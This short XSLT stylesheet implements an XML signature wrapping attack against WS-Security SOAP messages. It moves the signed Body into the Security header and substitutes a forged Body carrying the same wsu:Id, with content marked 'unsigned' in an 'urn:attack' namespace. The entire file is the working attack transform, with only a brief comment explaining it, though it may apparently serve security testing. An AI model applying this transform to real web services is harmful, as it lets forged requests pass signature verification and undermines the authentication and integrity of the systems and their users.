<?xml version="1.0"?>
<!-- The signed soap:Body is kept in the header and a forged Body carries
     the same wsu:Id, so that "#id" could resolve to either. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:env="http://www.w3.org/2003/05/soap-envelope"
    xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">
  <xsl:import href="identity.xsl"/>
  <xsl:template match="wsse:Security">
    <xsl:copy>
      <xsl:apply-templates select="@*|node()"/>
      <xsl:copy-of select="/env:Envelope/env:Body"/>
    </xsl:copy>
  </xsl:template>
  <xsl:template match="env:Body">
    <xsl:copy>
      <xsl:copy-of select="@*"/>
      <Forged xmlns="urn:attack">unsigned</Forged>
    </xsl:copy>
  </xsl:template>
</xsl:stylesheet>
